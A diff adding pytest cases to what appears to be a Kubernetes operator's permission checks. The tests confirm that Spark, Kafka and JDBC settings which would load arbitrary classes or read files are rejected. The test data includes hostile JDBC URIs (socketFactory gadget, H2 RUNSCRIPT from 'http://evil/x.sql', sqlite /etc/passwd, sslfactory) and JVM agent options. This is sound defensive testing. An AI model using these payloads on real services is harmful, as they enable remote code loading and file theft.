@@ -10,7 +10,7 @@ from tables_of_a_test import STREAM
 from tables_world import World, ready, run
 
 from bmq.resources.cluster import Cluster
-from bmq_operator.allowed import Allowed, why_not_names, without_tag
+from bmq_operator.allowed import Allowed, why_not_database, why_not_names, why_not_settings, without_tag
 from bmq_operator.clusters.desired import desired
 from bmq_operator.clusters.existing import Existing, ObjectTaken, bring_about, read_existing
 from bmq_operator.clusters.gathering import NotToBe, gather
@@ -38,6 +38,13 @@ BEYOND: dict[str, tuple[dict[str, Any], str]] = {
         {"sparkConf": {"spark.sql.streaming.stateStore.providerClass": "evil.C"}},
         "sparkConf: spark.sql.streaming.stateStore.providerClass",
     ),
+    "a class by a word of its own": ({"sparkConf": {"spark.io.compression.codec": "Evil"}}, "spark.io.compression.codec would load the class 'Evil'"),
+    "a class among numbers": ({"sparkConf": {"spark.sql.files.x": "1, evil.Class"}}, "sparkConf: spark.sql.files.x would load the class"),
+    "a class of a consumer": ({"consumerConfig": {"kafka.max.x": "evil.Class"}}, "consumerConfig: max.x would load the class"),
+    "a config map": (
+        {"format": "json", "schema": {"configMapKeyRef": {"name": "vault"}}},
+        "schema.configMapKeyRef.name: the ConfigMap vault does not say",
+    ),
     "options of Java": ({"sparkConf": {"spark.driver.extraJavaOptions": "-javaagent:x"}}, "sparkConf: spark.driver.extraJavaOptions"),
     "options by a variable": ({"placement": {"env": [{"name": "JAVA_TOOL_OPTIONS", "value": "-XX:OnError=x"}]}}, "placement.env: JAVA_TOOL_OPTIONS"),
     "a class": ({"consumerConfig": {"kafka.interceptor.classes": "evil.Class"}}, "consumerConfig: interceptor.classes"),
@@ -47,7 +54,7 @@ BEYOND: dict[str, tuple[dict[str, Any], str]] = {
 @pytest.mark.parametrize(("beyond", "says"), BEYOND.values(), ids=BEYOND)
 def test_a_table_that_reaches_for_what_is_not_its_authors_is_not_written_and_says_what_allows_it(beyond: dict[str, Any], says: str) -> None:
     async def use(world: World) -> None:
-        for kind, name in (("ServiceAccount", "admin-bot"), ("Secret", "database"), ("Secret", "keys")):
+        for kind, name in (("ServiceAccount", "admin-bot"), ("Secret", "database"), ("Secret", "keys"), ("ConfigMap", "vault")):
             world.kube.keep(described(kind, name, meta={"labels": {"bmq.io/use": "allowed"}} if name == "keys" else {}))
         outcome = await world.look({**STREAM, **beyond}, oneTable=True)
         assert (ready(outcome).status, ready(outcome).reason) == ("False", "NotAllowed")
@@ -61,6 +68,57 @@ def test_a_class_is_allowed_by_its_settings_whole_name_alone() -> None:
     name = "spark.sql.streaming.stateStore.providerClass"
     assert "allow.sparkConf" in why_not_names([name], ("spark.sql.*", "*"), field="sparkConf", value="allow.sparkConf")
     assert why_not_names([name, "spark.sql.shuffle.partitions"], ("spark.sql.*", name), field="sparkConf", value="allow.sparkConf") == ""
+
+
+@pytest.mark.parametrize(
+    ("value", "may"), [("zstd", True), ("LZ4", True), ("org.apache.spark.io.ZStdCompressionCodec", False), ("Evil", False), ("", False)]
+)
+def test_a_codec_is_one_that_spark_knows_by_a_word(value: str, may: bool) -> None:
+    for name in ("spark.io.compression.codec", "spark.sql.streaming.stateStore.compression.codec"):
+        why = why_not_settings({name: value}, Allowed().spark_conf, field="sparkConf", value="allow.sparkConf")
+        assert (why == "") == may, why
+        assert why_not_settings({name: value}, (name,), field="sparkConf", value="allow.sparkConf") == ""
+
+
+@pytest.mark.parametrize(
+    "settings",
+    [
+        {"spark.sql.session.timeZone": "America/Argentina/Ushuaia"},
+        {"spark.sql.files.maxPartitionBytes": "1.5m", "spark.speculation.quantile": "0.9", "spark.sql.streaming.checkpointLocation": "s3a://b.c/d.e"},
+    ],
+)
+def test_what_settings_usually_have_is_taken_for_no_class(settings: dict[str, str]) -> None:
+    assert why_not_settings(settings, Allowed().spark_conf, field="sparkConf", value="allow.sparkConf") == ""
+
+
+DATABASES = {
+    "jdbc:postgresql://db/lake": "",
+    "jdbc:postgresql://db.shop.svc:5432/lake": "",
+    "jdbc:postgresql://[fd00::1]:5432,other:5432/lake?user=job&sslmode=require&currentSchema=x": "",
+    "jdbc:postgresql://db/lake?socketFactory=org.springframework.ClassPathXmlApplicationContext&socketFactoryArg=http://e": "socketFac",
+    "jdbc:postgresql://db/lake?ssl=true&loggerFile=/tmp/x": "the parameter: loggerFile",
+    "jdbc:postgresql://db/lake?ssl=true;sslfactory=evil.Class": "the parameter: sslfactory",
+    "jdbc:postgresql://db/lake?%73ocketFactory=evil.Class": "the parameter: %73ocketFactory",
+    "jdbc:postgresql:lake?socketFactory=evil.Class": "the parameter: socketFactory",
+    "jdbc:postgresql://job:known@db/lake": "no address of a database",
+    "jdbc:postgresql://db/../lake": "no address of a database",
+    "jdbc:mysql://address=(host=db)(allowLoadLocalInfile=true)/lake": "no address of a database",
+    "jdbc:mysql://db/lake": "the driver: mysql",
+    "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'": "no address of a database",
+    "jdbc:h2:x;INIT=RUNSCRIPT": "the driver: h2",
+    "jdbc:sqlite:/etc/passwd": "no address of a database",
+    "jdbc:sqlite::resource:http://evil/x.db": "no address of a database",
+    "jdbc:derby:x;create=true": "the driver: derby",
+    "jdbc:a": "no address of a database",
+    "jdbc:": "no address of a database",
+}
+
+
+@pytest.mark.parametrize(("uri", "says"), DATABASES.items(), ids=DATABASES)
+def test_an_address_of_a_database_loads_no_class_and_reads_no_file(uri: str, says: str) -> None:
+    why = why_not_database(uri, Allowed(), field="iceberg.catalogUri")
+    assert (why == "") == (says == "")
+    assert says in why
 
 
 @pytest.mark.parametrize("by", ["the label", "the chart"])
